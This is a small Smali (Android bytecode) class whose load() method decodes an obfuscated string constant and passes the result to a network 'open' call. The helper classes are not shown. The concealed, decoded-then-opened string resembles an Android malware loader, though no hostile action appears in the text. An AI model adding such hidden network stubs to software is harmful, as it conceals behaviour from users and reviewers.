.class public Ls1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "o00wzdeehswohfzovwf0lz0e28ez1i"
    invoke-static {v0}, Ls1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Ls1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

